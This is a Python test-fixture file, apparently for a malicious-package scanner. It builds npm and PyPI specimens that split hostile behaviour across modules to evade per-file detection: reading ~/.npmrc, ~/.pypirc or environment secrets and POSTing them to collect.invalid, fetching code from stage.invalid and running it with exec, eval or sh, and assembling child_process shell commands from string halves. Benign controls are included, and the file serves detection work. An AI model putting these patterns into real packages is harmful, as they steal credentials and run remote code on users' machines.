"""Payloads whose parts stand in several files: none of the files does anything odd alone."""

from tests.evasion.specimen import COMMAND, PAD, Specimen, npm, pypi

_READ = "const fs = require('fs');\nconst os = require('os');\n"
_SECRET = "fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')"
_POST = "fetch('https://collect.invalid/in', { method: 'POST', body: data })"
_HALF = (COMMAND[:17], COMMAND[17:])


def _two(title: str, reader: str, sender: str, entry: str, **more: str) -> Specimen:
    """Return a specimen of three files: one reads, one sends, and the entry brings them together."""
    files = {"lib/read.js": reader, "lib/send.js": sender, **{f"lib/{name}.js": text for name, text in more.items()}}
    return npm("flows across files", title, entry, files)


_PY_READ = "import os\n"
_PY_SECRET = "open(os.path.expanduser('~/.pypirc')).read()"
_PY_SEND = "urllib.request.urlopen('https://collect.invalid/in', data=data)"
_PY_NET = f"import urllib.request\n\n\ndef send(data):\n    {_PY_SEND}\n"
_PY_TOKEN = f"{_PY_READ}\n\ndef token():\n    return {_PY_SECRET}\n"


def _both(title: str, reader: str, sender: str, entry: str, **more: str) -> Specimen:
    """Return a specimen of a package that reads in one module, sends in another, and brings them together."""
    files = {"pad/read.py": reader, "pad/net.py": sender, **{f"pad/{name}.py": text for name, text in more.items()}}
    return pypi("flows across modules", title, entry, files)


MODULES: tuple[Specimen, ...] = (
    _both(
        "functions of two modules, by relative imports",
        _PY_TOKEN,
        _PY_NET,
        "from .read import token\nfrom .net import send\nsend(token())\n",
    ),
    _both(
        "the same by the name of the package",
        _PY_TOKEN,
        _PY_NET,
        "import pad.net\nfrom pad import read as r\npad.net.send(data=r.token())\n",
    ),
    _both(
        "modules as names",
        _PY_TOKEN,
        _PY_NET,
        "from . import net, read\nfor part in [read.token()]:\n    net.send({'part': part})\n",
    ),
    _both(
        "a constant of a module",
        f"{_PY_READ}TOKEN = {_PY_SECRET}\n",
        f"import urllib.request\nfrom .read import TOKEN as data\n{_PY_SEND}\n",
        "from . import net\n",
    ),
    _both(
        "the method of an object that another module's class makes",
        _PY_TOKEN,
        f"import urllib.request\n\n\nclass Client:\n    def send(self, data):\n        {_PY_SEND}\n",
        "from .net import Client\nfrom .read import token\nClient().send(token())\n",
    ),
    _both(
        "imported again by a module between",
        _PY_TOKEN,
        _PY_NET,
        "from .all import send, token\nsend(token())\n",
        all="from .net import send\nfrom .read import token\n",
    ),
    _both(
        "the sender itself asks the reader",
        _PY_TOKEN,
        f"import urllib.request\nfrom . import read\n\n\ndef go():\n    data = read.token().encode()\n    {_PY_SEND}\n",
        "from .net import go\ngo()\n",
    ),
    _both(
        "the whole environment",
        f"{_PY_READ}\n\ndef token():\n    return dict(os.environ)\n",
        _PY_NET,
        "from .read import token\nfrom .net import send\nsend(str(token()).encode())\n",
    ),
    pypi(
        "flows across modules",
        "downloaded in one and executed in another",
        "from .run import go\ngo()\n",
        {
            "pad/get.py": "import urllib.request\n\n\ndef get():\n"
            "    return urllib.request.urlopen('https://stage.invalid/x').read()\n",
            "pad/run.py": "from .get import get\n\n\ndef go():\n    exec(get())\n",
        },
    ),
    pypi(
        "flows across modules",
        "downloaded in one and executed in another as it is loaded",
        "from . import run\n",
        {
            "pad/get.py": "import urllib.request\n\n\ndef get():\n"
            "    return urllib.request.urlopen('https://stage.invalid/x').read()\n",
            "pad/run.py": "from .get import get\nexec(get())\n",
        },
    ),
    pypi(
        "flows across modules",
        "downloaded in one and handed to another that executes",
        "from .get import get\nfrom .run import run\nrun(get())\n",
        {
            "pad/get.py": "import requests\n\n\ndef get():\n    return requests.get('https://stage.invalid/x').text\n",
            "pad/run.py": "def run(code):\n    exec(compile(code, 'x', 'exec'))\n",
        },
    ),
    pypi(
        "flows across modules",
        "decoded in one and executed in another",
        "from .run import run\nfrom .text import text\nrun(text('cHJpbnQoMSk='))\n",
        {
            "pad/text.py": "import base64\n\n\ndef text(data):\n    return base64.b64decode(data)\n",
            "pad/run.py": "def run(code):\n    exec(code)\n",
        },
    ),
    pypi(
        "flows across modules",
        "a function of another module does it all",
        "from .run import go\ngo()\n",
        {"pad/run.py": f"import os\n\n\ndef go():\n    os.system('{COMMAND}')\n"},
    ),
)

UNLIKE: tuple[Specimen, ...] = (
    pypi(
        "no flow",
        "a client whose settings stand in a module of their own",
        "",
        {
            "pad/config.py": "import os\nURL = 'https://api.invalid'\nLEVEL = os.environ.get('LOG_LEVEL')\n",
            "pad/client.py": "import requests\nfrom .config import LEVEL, URL\n\n\ndef get(path):\n"
            "    return requests.get(URL + path, headers={'level': LEVEL})\n",
        },
    ),
    pypi(
        "no flow",
        "a token that another function of the same module reads",
        "",
        {
            "pad/config.py": "import os\nURL = 'https://api.invalid'\n\n\ndef token():\n    return os.environ['NPM_TOKEN']\n",
            "pad/client.py": "import requests\nfrom .config import URL\n\n\ndef get(path):\n    return requests.get(URL + path)\n",
        },
    ),
)

SPECIMENS: tuple[Specimen, ...] = (
    _two(
        "read in one file and sent in another",
        f"{_READ}exports.token = {_SECRET};\n",
        f"exports.send = (data) => {_POST};\n",
        "const { token } = require('./lib/read');\nrequire('./lib/send').send(token);\n",
    ),
    _two(
        "both are functions",
        f"{_READ}module.exports = function () {{ return {_SECRET}; }};\n",
        f"module.exports = function (data) {{ return {_POST}; }};\n",
        "const read = require('./lib/read'), send = require('./lib/send');\nsend(read());\n",
    ),
    _two(
        "promises",
        f"{_READ}exports.read = async () => {_SECRET};\n",
        f"exports.send = async (data) => {_POST};\n",
        "const r = require('./lib/read');\nr.read().then((t) => require('./lib/send').send(t));\n",
    ),
    _two(
        "await",
        f"{_READ}exports.read = () => new Promise((done) => done({_SECRET}));\n",
        f"exports.send = async (data) => {{ await {_POST}; }};\n",
        "(async () => { const t = await require('./lib/read').read(); await require('./lib/send').send({ t }); })();\n",
    ),
    _two(
        "a callback",
        f"{_READ}exports.read = (then) => then(null, {_SECRET});\n",
        f"exports.send = (data) => {_POST};\n",
        "const send = require('./lib/send');\nrequire('./lib/read').read((e, t) => send.send(t));\n",
    ),
    _two(
        "the sender itself reads the other file",
        f"{_READ}exports.token = () => {_SECRET};\n",
        f"const data = require('./read').token();\n{_POST};\n",
        "require('./lib/send');\n",
    ),
    _two(
        "exported again, twice",
        f"{_READ}exports.token = () => {_SECRET};\n",
        f"exports.send = (data) => {_POST};\n",
        "const all = require('./lib/index');\nall.send(all.token());\n",
        index="exports.token = require('./middle').token;\nexports.send = (x) => require('./middle').send(x);\n",
        middle="module.exports = { token: require('./read').token, send: require('./send').send };\n",
    ),
    _two(
        "modules of the new kind",
        f"import fs from 'fs';\nimport os from 'os';\nexport const token = {_SECRET};\n",
        f"export default async function (data) {{ return {_POST}; }}\nexport function send(data) {{ return {_POST}; }}\n",
        "import { token, send as later } from './lib/index.js';\nlater(token);\n",
        index="export * from './read.js';\nexport { send } from './send.js';\n",
    ),
    _two(
        "what a compiler makes of modules",
        f'"use strict";\nObject.defineProperty(exports, "__esModule", {{ value: true }});\n{_READ}'
        f"const token = () => {_SECRET};\nexports.token = token;\n",
        f'"use strict";\nexports.send = void 0;\nfunction send(data) {{ return {_POST}; }}\nexports.send = send;\n',
        '"use strict";\nconst read_1 = require("./lib/read");\nconst send_1 = require("./lib/send");\n'
        "(0, send_1.send)((0, read_1.token)());\n",
    ),
    npm(
        "flows across files",
        "downloaded in one and executed in another",
        "require('./lib/run')();\n",
        {
            "lib/get.js": "exports.get = () => fetch('https://stage.invalid/x').then((r) => r.text());\n",
            "lib/run.js": "const { get } = require('./get');\nmodule.exports = () => get().then((t) => eval(t));\n",
        },
    ),
    npm(
        "flows across files",
        "downloaded to a file in one and started in another",
        "require('./lib/get');\nrequire('./lib/run');\n",
        {
            "lib/get.js": "const fs = require('fs');\nrequire('https').get('https://stage.invalid/x', (r) => "
            "r.on('data', (d) => fs.writeFileSync('/tmp/.pad-upd', d)));\n",
            "lib/run.js": "setTimeout(() => require('child_process').exec('sh /tmp/.pad-upd'), 9000);\n",
        },
    ),
    npm(
        "flows across files",
        "decoded in one and executed in another",
        "require('./lib/run')(require('./lib/text').text());\n",
        {
            "lib/text.js": "exports.text = () => Buffer.from('Y29uc29sZS5sb2coJ3BhZGRlZCcp', 'base64').toString();\n",
            "lib/run.js": "module.exports = (code) => new Function(code)();\n",
        },
    ),
    npm(
        "control across files",
        "a function of another file does it all",
        "require('./lib/run').run();\n",
        {"lib/run.js": f"exports.run = () => require('child_process').exec('{COMMAND}');\n"},
    ),
    npm(
        "control across files",
        "a function that calls the next file's",
        "require('./lib/one')();\n",
        {
            "lib/one.js": "const two = require('./two');\nmodule.exports = () => two.go();\n",
            "lib/two.js": f"exports.go = function () {{ require('child_process').exec('{COMMAND}'); }};\n",
        },
    ),
    npm(
        "control across files",
        "the constructor of a class",
        "const Pad = require('./lib/pad');\nnew Pad();\n",
        {
            "lib/pad.js": f"module.exports = class {{ constructor() {{ require('child_process').exec('{COMMAND}'); }} }};\n"
        },
    ),
    npm(
        "split strings across files",
        "the name of a module",
        f"require(require('./lib/a') + require('./lib/b')).exec('{COMMAND}');\n",
        {"lib/a.js": "module.exports = 'child_';\n", "lib/b.js": "module.exports = 'process';\n"},
    ),
    npm(
        "split strings across files",
        "a command",
        "const a = require('./lib/a'), b = require('./lib/b');\nrequire('child_process').exec(a.text + b.text);\n",
        {"lib/a.js": f"exports.text = '{_HALF[0]}';\n", "lib/b.js": f"exports.text = '{_HALF[1]}';\n"},
    ),
    npm(
        "split strings across files",
        "the text of a template",
        "import { first } from './lib/a.js';\nimport { second } from './lib/b.js';\n"
        "import cp from 'child_process';\ncp.exec(`${first}${second}`);\n",
        {"lib/a.js": f"export const first = '{_HALF[0]}';\n", "lib/b.js": f"export const second = '{_HALF[1]}';\n"},
    ),
)

HARMLESS: tuple[Specimen, ...] = (
    npm(
        "no flow",
        "a client whose settings stand in a file of their own",
        "exports.get = (path) => require('./lib/client').get(path);\n",
        {
            "lib/config.js": "exports.url = 'https://api.invalid';\nexports.level = process.env.LOG_LEVEL;\n",
            "lib/client.js": "const config = require('./config');\n"
            "exports.get = (path) => fetch(config.url + path, { headers: { level: config.level } });\n",
        },
    ),
    npm(
        "no flow",
        "a token that another export of the same file reads",
        "require('./lib/client');\n",
        {
            "lib/config.js": "exports.url = 'https://api.invalid';\nexports.token = () => process.env.NPM_TOKEN;\n",
            "lib/client.js": "const { url } = require('./config');\nexports.get = (path) => fetch(url + path);\n",
        },
    ),
    npm(
        "no flow",
        "a plug-in that settings name",
        "exports.parse = (text) => require('./lib/load')(text);\n",
        {
            "lib/names.js": "exports.folder = './parsers/';\nexports.plain = 'plain.js';\n",
            "lib/load.js": "const n = require('./names');\nmodule.exports = (t) => require(n.folder + n.plain)(t);\n",
            "lib/parsers/plain.js": PAD,
        },
    ),
)
